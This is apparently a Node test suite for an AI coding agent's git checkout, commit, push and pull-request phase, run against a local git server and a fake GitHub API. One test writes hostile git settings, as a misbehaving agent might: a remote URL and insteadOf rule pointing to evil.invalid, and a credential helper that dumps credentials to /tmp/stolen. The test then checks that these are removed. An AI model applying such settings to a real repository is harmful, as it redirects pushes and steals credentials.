/**
 * Drives checkoutRepository / commitAndPush against a real git smart-HTTP
 * server (git http-backend). The agent is simulated by writing files into
 * agentCwd between the two calls. Pull requests go to a recorded-request fake.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { JobError } from '../../src/errors/worker-error.js';
import type { EventInput } from '../../src/events/registry.js';
import {
  checkoutRepository,
  commitAndPush,
  type CheckoutResult,
  type RepositoryContext,
} from '../../src/git/repository-phase.js';
import { Redactor } from '../../src/secrets/redactor.js';
import {
  branchCommits,
  git,
  listBranches,
  pushFromElsewhere,
  readFileAt,
  rejectPushes,
  startFakePullsApi,
  startGitServer,
  type GitServer,
} from '../fixtures/git-server.js';

const TOKEN = 'ghp_TestToken0123456789abcdefABCDEF';
const TOKEN_BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const SESSION_ID = '1a2b3c4d-5e6f-4a0b-8c9d-0123456789ab';
const AUTHOR = { name: 'Worker Bot', email: 'bot@example.com' };

let server: GitServer;
const roots: string[] = [];

before(async () => {
  server = await startGitServer({ token: TOKEN });
});
after(async () => {
  await server.close();
  await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true, maxRetries: 3 })));
});

interface Harness {
  root: string;
  workspaceDir: string;
  homeDir: string;
  events: EventInput[];
  ctx: RepositoryContext;
}

/** A fresh session folder and context; `root` may be reused to resume a session in place. */
async function harness(repoUrl: string, overrides: Partial<RepositoryContext> = {}, root?: string): Promise<Harness> {
  if (!root) {
    root = await mkdtemp(join(tmpdir(), 'acw-git-test-'));
    roots.push(root);
  }
  const workspaceDir = join(root, 'workspace');
  const homeDir = join(root, `home-${Math.random().toString(36).slice(2)}`);
  await mkdir(workspaceDir, { recursive: true, mode: 0o700 });
  await mkdir(homeDir, { mode: 0o700 });
  const events: EventInput[] = [];
  const ctx: RepositoryContext = {
    sessionId: SESSION_ID,
    workspaceDir,
    github: { repoUrl, accessToken: TOKEN },
    providerPrefix: 'claude',
    userRequestText: 'Please add error handling to the parser',
    gitAuthor: AUTHOR,
    homeDir,
    emit: (event) => events.push(event),
    redactor: new Redactor(),
    signal: new AbortController().signal,
    githubApiUrl: 'http://127.0.0.1:9',
    ...overrides,
  };
  return { root, workspaceDir, homeDir, events, ctx };
}

let repoCounter = 0;
async function newRepo(
  files: Record<string, string> = { 'README.md': '# Widgets\n', 'src/index.ts': 'export {};\n' },
  defaultBranch?: string,
  isPublic = false,
) {
  repoCounter += 1;
  return server.createRepo(`acme/widgets-${repoCounter}`, files, { defaultBranch, public: isPublic });
}

const stages = (events: EventInput[]): string[] =>
  events.flatMap((event) => (event.type === 'commit_progress' ? [event.stage] : []));
const types = (events: EventInput[]): string[] => events.map((event) => event.type);

async function allFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { withFileTypes: true, recursive: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}

async function assertNoToken(h: Harness): Promise<void> {
  for (const file of [...(await allFiles(h.root))]) {
    const content = await readFile(file, 'latin1');
    assert.ok(!content.includes(TOKEN), `token found in ${file}`);
    assert.ok(!content.includes(TOKEN_BASIC), `encoded token found in ${file}`);
  }
  const emitted = JSON.stringify(h.events);
  assert.ok(!emitted.includes(TOKEN) && !emitted.includes(TOKEN_BASIC), 'token found in an event');
}

/** A new session: checkout, a simulated agent edit, commit and push. */
async function firstTurn(repoUrl: string, overrides: Partial<RepositoryContext> = {}) {
  const h = await harness(repoUrl, overrides);
  const checkout = await checkoutRepository(h.ctx);
  await writeFile(join(checkout.agentCwd, 'errors.ts'), 'export class ParseError extends Error {}\n');
  const result = await commitAndPush(h.ctx, checkout);
  return { h, checkout, result };
}

/** Resumes the session of `first` (same workspace unless it was deleted). */
async function resume(first: { h: Harness; checkout: CheckoutResult }, overrides: Partial<RepositoryContext> = {}) {
  const previous = { branch: first.checkout.branch, baseBranch: first.checkout.baseBranch, repoDir: first.checkout.repoPath };
  const h = await harness(first.h.ctx.github.repoUrl, { previous, userRequestText: 'Now add tests', ...overrides }, first.h.root);
  const checkout = await checkoutRepository(h.ctx);
  return { h, checkout };
}

describe('checkoutRepository + commitAndPush against a git http-backend server', () => {
  test('new session: authenticated clone, session branch, generated names, commit and push', async () => {
    const repo = await newRepo({ 'README.md': '# Widgets\n', 'packages/app/index.ts': 'export {};\n' });
    const prompts: string[] = [];
    const generateText = async (prompt: string): Promise<string> => {
      prompts.push(prompt);
      return prompts.length === 1
        ? '{"title": "Parser error handling", "slug": "add-error-handling"}'
        : 'Add ParseError for parser failures\n\nIntroduce a dedicated error class.';
    };
    const h = await harness(repo.url, { generateText, github: { repoUrl: repo.url, accessToken: TOKEN, directory: 'packages/app' } });
    const checkout = await checkoutRepository(h.ctx);

    assert.equal(checkout.branch, 'claude/add-error-handling-1a2b3c4d');
    assert.equal(checkout.baseBranch, 'main');
    assert.equal(checkout.title, 'Parser error handling');
    assert.equal(checkout.repoDir, join(h.workspaceDir, 'widgets-1'));
    assert.equal(checkout.repoPath, 'widgets-1');
    assert.equal(checkout.agentCwd, join(checkout.repoDir, 'packages/app'));
    // A private repository (anonymous reads refused) gets a full clone.
    await assert.rejects(git(['config', 'remote.origin.partialclonefilter'], checkout.repoDir));
    assert.ok(h.events.some((event) => event.type === 'github_pull_progress' && /full clone/.test(event.data.message ?? '')));

    const kinds = types(h.events);
    assert.equal(kinds[0], 'github_pull_progress');
    assert.deepEqual(kinds.slice(-3), ['github_pull_progress', 'branch_created', 'session_name']);
    const done = h.events.at(-3);
    assert.ok(done?.type === 'github_pull_progress' && done.data.type === 'completed' && done.data.targetPath === 'widgets-1');
    assert.deepEqual(h.events.at(-2), {
      type: 'branch_created',
      branchName: checkout.branch,
      baseBranch: 'main',
      message: `Created branch ${checkout.branch} from main`,
    });
    assert.deepEqual(h.events.at(-1), { type: 'session_name', sessionName: 'Parser error handling', branchName: checkout.branch });

    // The simulated agent.
    await writeFile(join(checkout.agentCwd, 'errors.ts'), 'export class ParseError extends Error {}\n');
    h.events.length = 0;
    const result = await commitAndPush(h.ctx, checkout);

    assert.equal(result.pushed, true);
    assert.equal(result.branch, checkout.branch);
    assert.match(result.commitHash ?? '', /^[0-9a-f]{40}$/);
    assert.deepEqual(stages(h.events), ['analyzing', 'generating_message', 'committing', 'committed', 'pushing', 'pushed', 'completed']);
    const committed = h.events.find((event) => event.type === 'commit_progress' && event.stage === 'committed');
    assert.ok(committed?.type === 'commit_progress' && committed.commitHash === result.commitHash);
    assert.match(prompts[1] ?? '', /packages\/app\/errors\.ts/);

    assert.ok((await listBranches(repo.bareDir)).includes(checkout.branch));
    const [commit] = await branchCommits(repo.bareDir, checkout.branch);
    assert.equal(commit?.hash, result.commitHash);
    assert.equal(commit?.subject, 'Add ParseError for parser failures');
    assert.equal(commit?.body, 'Introduce a dedicated error class.');
    assert.equal(commit?.authorName, AUTHOR.name);
    assert.equal(commit?.authorEmail, AUTHOR.email);
    assert.equal(await readFileAt(repo.bareDir, checkout.branch, 'packages/app/errors.ts'), 'export class ParseError extends Error {}\n');
    // main is untouched.
    assert.equal((await branchCommits(repo.bareDir, 'main')).length, 1);

    // The token went over the wire (every request authorized, but the anonymous-read probe
    // that chooses the clone strategy) and nowhere else.
    const [probe, ...ours] = server.requests.filter((request) => request.path.includes('/acme/widgets-1.git/'));
    assert.deepEqual(probe, { method: 'GET', path: '/acme/widgets-1.git/info/refs?service=git-upload-pack', authorized: false });
    assert.ok(ours.length > 0 && ours.every((request) => request.authorized));
    const config = await readFile(join(checkout.repoDir, '.git', 'config'), 'utf8');
    assert.ok(!config.includes(TOKEN) && !config.includes('extraheader') && !config.includes('extraHeader'));
    await assertNoToken(h);
  });

  test('wrong token: GITHUB_ERROR without the token in its message', async () => {
    const repo = await newRepo();
    const wrong = 'ghp_WrongToken9876543210zyxwvu';
    const h = await harness(repo.url, { github: { repoUrl: repo.url, accessToken: wrong } });
    await assert.rejects(checkoutRepository(h.ctx), (error: unknown) => {
      assert.ok(error instanceof JobError);
      assert.equal(error.code, 'GITHUB_ERROR');
      assert.match(error.message, /git clone failed/);
      assert.ok(!error.message.includes(wrong));
      assert.ok(!error.message.includes(Buffer.from(`x-access-token:${wrong}`).toString('base64')));
      return true;
    });
    assert.ok(!JSON.stringify(h.events).includes(wrong));
  });

  test('no token on a protected repository: GITHUB_ERROR, no prompt', async () => {
    const repo = await newRepo();
    const h = await harness(repo.url, { github: { repoUrl: repo.url } });
    await assert.rejects(checkoutRepository(h.ctx), (error: unknown) => error instanceof JobError && error.code === 'GITHUB_ERROR');
  });

  test('generateText failing: fallback title, slug and commit message; the job goes on', async () => {
    const repo = await newRepo(undefined, 'trunk');
    const generateText = async (): Promise<string> => {
      throw new Error('model unavailable');
    };
    const { h, checkout, result } = await firstTurn(repo.url, { generateText });
    assert.equal(checkout.baseBranch, 'trunk');
    assert.equal(checkout.branch, 'claude/add-error-handling-parser-1a2b3c4d');
    assert.equal(checkout.title, 'Please add error handling to the parser');
    assert.ok(h.events.some((event) => event.type === 'session_name' && event.sessionName === checkout.title));
    assert.equal(result.pushed, true);
    const [commit] = await branchCommits(repo.bareDir, checkout.branch);
    assert.equal(commit?.subject, 'Add errors.ts');
  });

  test('no changes: no commit, no push, a completed stage that says so', async () => {
    const repo = await newRepo();
    const h = await harness(repo.url);
    const checkout = await checkoutRepository(h.ctx);
    h.events.length = 0;
    const result = await commitAndPush(h.ctx, checkout);
    assert.deepEqual(result, { pushed: false, branch: checkout.branch });
    assert.deepEqual(stages(h.events), ['analyzing', 'completed']);
    const last = h.events.at(-1);
    assert.ok(last?.type === 'commit_progress' && /No changes/.test(last.message));
    assert.deepEqual(await listBranches(repo.bareDir), ['main']);
  });

  test('push rejected by a pre-receive hook: push_failed, commit kept, no throw', async () => {
    const repo = await newRepo();
    await rejectPushes(repo.bareDir, 'pushes are frozen today');
    const { h, checkout, result } = await firstTurn(repo.url);
    assert.equal(result.pushed, false);
    assert.match(result.commitHash ?? '', /^[0-9a-f]{40}$/);
    assert.deepEqual(stages(h.events).slice(-3), ['pushing', 'push_failed', 'completed']);
    const failed = h.events.find((event) => event.type === 'commit_progress' && event.stage === 'push_failed');
    assert.ok(failed?.type === 'commit_progress');
    assert.match(failed.error ?? '', /pushes are frozen today|pre-receive hook declined/);
    assert.equal((await git(['rev-parse', 'HEAD'], checkout.repoDir)).trim(), result.commitHash);
    assert.deepEqual(await listBranches(repo.bareDir), ['main']);
    await assertNoToken(h);
  });

  test('resume with the workspace present: fetch, same branch, second commit on top', async () => {
    const repo = await newRepo();
    const first = await firstTurn(repo.url);
    const second = await resume(first);
    assert.equal(second.checkout.branch, first.checkout.branch);
    assert.equal(second.checkout.repoDir, first.checkout.repoDir);
    assert.equal(second.checkout.title, undefined);
    assert.ok(!types(second.h.events).includes('branch_created'));
    await writeFile(join(second.checkout.agentCwd, 'errors.test.ts'), 'test("x", () => {});\n');
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, true);
    const commits = await branchCommits(repo.bareDir, first.checkout.branch);
    assert.deepEqual(commits.map((commit) => commit.hash).slice(0, 2), [result.commitHash, first.result.commitHash]);
  });

  test('resume with the workspace gone: re-clone onto the session branch, second commit on top', async () => {
    const repo = await newRepo();
    const first = await firstTurn(repo.url);
    await rm(first.h.workspaceDir, { recursive: true, force: true });
    const second = await resume(first);
    assert.equal(second.checkout.branch, first.checkout.branch);
    assert.equal((await git(['rev-parse', 'HEAD'], second.checkout.repoDir)).trim(), first.result.commitHash);
    assert.equal((await git(['symbolic-ref', '--short', 'HEAD'], second.checkout.repoDir)).trim(), first.checkout.branch);
    assert.ok(second.h.events.some((event) => event.type === 'github_pull_progress' && /Re-cloned/.test(event.data.message ?? '')));
    await writeFile(join(second.checkout.agentCwd, 'more.ts'), 'export const more = 1;\n');
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, true);
    const commits = await branchCommits(repo.bareDir, first.checkout.branch);
    assert.deepEqual(commits.map((commit) => commit.hash).slice(0, 2), [result.commitHash, first.result.commitHash]);
  });

  test('remote branch moved, no conflict: rebase and push', async () => {
    const repo = await newRepo();
    const first = await firstTurn(repo.url);
    const second = await resume(first);
    await writeFile(join(second.checkout.agentCwd, 'mine.ts'), 'export const mine = 1;\n');
    await pushFromElsewhere(repo.bareDir, first.checkout.branch, { 'theirs.ts': 'export const theirs = 1;\n' }, 'Their change');
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, true);
    const pushed = second.h.events.find((event) => event.type === 'commit_progress' && event.stage === 'pushed');
    assert.ok(pushed?.type === 'commit_progress' && /Rebased/.test(pushed.message) && pushed.commitHash === result.commitHash);
    const commits = await branchCommits(repo.bareDir, first.checkout.branch);
    assert.equal(commits[0]?.hash, result.commitHash);
    assert.equal(commits[1]?.subject, 'Their change');
    assert.equal(await readFileAt(repo.bareDir, first.checkout.branch, 'theirs.ts'), 'export const theirs = 1;\n');
    assert.equal(await readFileAt(repo.bareDir, first.checkout.branch, 'mine.ts'), 'export const mine = 1;\n');
  });

  test('remote branch moved with a conflict: push_failed naming the file, nothing forced', async () => {
    const repo = await newRepo();
    const first = await firstTurn(repo.url);
    const second = await resume(first);
    await writeFile(join(second.checkout.agentCwd, 'README.md'), '# Widgets, by the agent\n');
    await pushFromElsewhere(repo.bareDir, first.checkout.branch, { 'README.md': '# Widgets, by a human\n' }, 'Human edit');
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, false);
    const failed = second.h.events.find((event) => event.type === 'commit_progress' && event.stage === 'push_failed');
    assert.ok(failed?.type === 'commit_progress');
    assert.match(failed.error ?? '', /conflict/i);
    assert.match(failed.error ?? '', /README\.md/);
    assert.equal(stages(second.h.events).at(-1), 'completed');
    // Remote keeps the human's commit; the local commit is kept, and no rebase is left half-done.
    assert.equal((await branchCommits(repo.bareDir, first.checkout.branch))[0]?.subject, 'Human edit');
    assert.equal((await git(['rev-parse', 'HEAD'], second.checkout.repoDir)).trim(), result.commitHash);
    assert.equal((await git(['status', '--porcelain'], second.checkout.repoDir)).trim(), '');
  });

  test('public repository: blobless partial clone; re-clone and rebase still work', async () => {
    const repo = await newRepo(undefined, undefined, true);
    const first = await firstTurn(repo.url);
    assert.equal((await git(['config', 'remote.origin.partialclonefilter'], first.checkout.repoDir)).trim(), 'blob:none');
    assert.equal(first.result.pushed, true);

    await rm(first.h.workspaceDir, { recursive: true, force: true });
    const second = await resume(first);
    assert.equal((await git(['rev-parse', 'HEAD'], second.checkout.repoDir)).trim(), first.result.commitHash);
    await writeFile(join(second.checkout.agentCwd, 'mine.ts'), 'export const mine = 1;\n');
    await pushFromElsewhere(repo.bareDir, first.checkout.branch, { 'theirs.ts': 'export const theirs = 1;\n' }, 'Their change');
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, true);
    assert.equal(await readFileAt(repo.bareDir, first.checkout.branch, 'theirs.ts'), 'export const theirs = 1;\n');
    assert.equal(await readFileAt(repo.bareDir, first.checkout.branch, 'mine.ts'), 'export const mine = 1;\n');
    await assertNoToken(second.h);
  });

  test('settings the agent writes into .git/config cannot redirect the push', async () => {
    const repo = await newRepo();
    const h = await harness(repo.url);
    const checkout = await checkoutRepository(h.ctx);
    await writeFile(join(checkout.agentCwd, 'errors.ts'), 'export {};\n');
    // What a hostile or confused agent could do: rewrite the URL, add a proxy, an include, a credential helper.
    await git(['config', `url.http://evil.invalid/.insteadOf`, repo.url], checkout.repoDir);
    await git(['config', 'http.proxy', 'http://127.0.0.1:9'], checkout.repoDir);
    await git(['config', 'include.path', '/tmp/somewhere'], checkout.repoDir);
    await git(['config', 'credential.helper', '!cat >/tmp/stolen'], checkout.repoDir);
    await git(['config', 'remote.origin.url', 'http://evil.invalid/x.git'], checkout.repoDir);
    const result = await commitAndPush(h.ctx, checkout);
    assert.equal(result.pushed, true);
    const notice = h.events.find((event) => event.type === 'message' && /Removed repository git settings/.test(event.message));
    assert.ok(notice?.type === 'message' && /http\.proxy/.test(notice.message) && /insteadof/i.test(notice.message));
    const config = await readFile(join(checkout.repoDir, '.git', 'config'), 'utf8');
    assert.ok(!/evil|proxy|include|helper/.test(config), config);
    assert.match(config, new RegExp(`url = ${repo.url.replace(/[.]/g, '\\.')}`));
  });

  test('an aborted job: JobError ABORTED', async () => {
    const repo = await newRepo();
    const controller = new AbortController();
    controller.abort();
    const h = await harness(repo.url, { signal: controller.signal });
    await assert.rejects(checkoutRepository(h.ctx), (error: unknown) => error instanceof JobError && error.code === 'ABORTED');
  });

  test('a large push (chunked request body) and an empty repository', async () => {
    const repo = await server.createRepo(`acme/empty-${++repoCounter}`, {});
    const h = await harness(repo.url);
    const checkout = await checkoutRepository(h.ctx);
    assert.equal(checkout.baseBranch, 'main');
    const big = randomBytes(3 * 1024 * 1024).toString('base64');
    await writeFile(join(checkout.agentCwd, 'big.txt'), big);
    const result = await commitAndPush(h.ctx, checkout);
    assert.equal(result.pushed, true);
    assert.equal((await readFileAt(repo.bareDir, checkout.branch, 'big.txt')).length, big.length);
  });

  test('a commit whose push failed is pushed on the next turn', async () => {
    const repo = await newRepo();
    await rejectPushes(repo.bareDir);
    const first = await firstTurn(repo.url);
    assert.equal(first.result.pushed, false);
    await rm(join(repo.bareDir, 'hooks', 'pre-receive'));
    const second = await resume(first);
    const result = await commitAndPush(second.h.ctx, second.checkout);
    assert.equal(result.pushed, true);
    assert.equal(result.commitHash, first.result.commitHash);
    assert.equal((await branchCommits(repo.bareDir, first.checkout.branch))[0]?.hash, first.result.commitHash);
  });
});

describe('pull requests (against a recorded-request fake of the GitHub REST pulls API)', () => {
  test('created on the first turn, updated on the next, with the exact REST calls', async () => {
    const api = await startFakePullsApi({ token: TOKEN });
    try {
      const repo = await newRepo();
      const first = await firstTurn(repo.url, { githubApiUrl: api.url, pullRequest: { draft: true } });
      const branch = first.checkout.branch;
      const head = encodeURIComponent(`acme:${branch}`);
      assert.equal(api.requests.length, 2);
      assert.deepEqual(
        api.requests.map((request) => [request.method, request.path]),
        [
          ['GET', `/repos/acme/widgets-${repoCounter}/pulls?head=${head}&state=open`],
          ['POST', `/repos/acme/widgets-${repoCounter}/pulls`],
        ],
      );
      assert.ok(api.requests.every((request) => request.authorization === `Bearer ${TOKEN}`));
      const posted = api.requests[1]?.body as Record<string, unknown>;
      assert.deepEqual(
        { title: posted.title, head: posted.head, base: posted.base, draft: posted.draft },
        { title: 'Please add error handling to the parser', head: branch, base: 'main', draft: true },
      );
      assert.match(String(posted.body), /Please add error handling to the parser/);
      const created = first.h.events.find((event) => event.type === 'pull_request');
      assert.deepEqual(created, {
        type: 'pull_request',
        url: `https://github.example/acme/widgets-${repoCounter}/pull/1`,
        number: 1,
        action: 'created',
      });

      const second = await resume(first, { githubApiUrl: api.url, pullRequest: { title: 'Parser: error handling and tests' } });
      await writeFile(join(second.checkout.agentCwd, 'errors.test.ts'), 'test("x", () => {});\n');
      const result = await commitAndPush(second.h.ctx, second.checkout);
      assert.equal(result.pushed, true);
      assert.deepEqual(
        api.requests.slice(2).map((request) => [request.method, request.path, request.body]),
        [
          ['GET', `/repos/acme/widgets-${repoCounter}/pulls?head=${head}&state=open`, undefined],
          ['PATCH', `/repos/acme/widgets-${repoCounter}/pulls/1`, { title: 'Parser: error handling and tests' }],
        ],
      );
      const updated = second.h.events.find((event) => event.type === 'pull_request');
      assert.ok(updated?.type === 'pull_request' && updated.action === 'updated' && updated.number === 1);
      await assertNoToken(second.h);
    } finally {
      await api.close();
    }
  });

  test('an API failure is a message event, not a failed job', async () => {
    const api = await startFakePullsApi({ token: TOKEN });
    try {
      const repo = await newRepo();
      api.failNext(403, 'Resource not accessible by integration');
      const { h, result } = await firstTurn(repo.url, { githubApiUrl: api.url, pullRequest: {} });
      assert.equal(result.pushed, true);
      assert.ok(!types(h.events).includes('pull_request'));
      const message = h.events.find((event) => event.type === 'message' && /Pull request failed/.test(event.message));
      assert.ok(message?.type === 'message' && /403/.test(message.message) && /Resource not accessible/.test(message.message));
    } finally {
      await api.close();
    }
  });
});
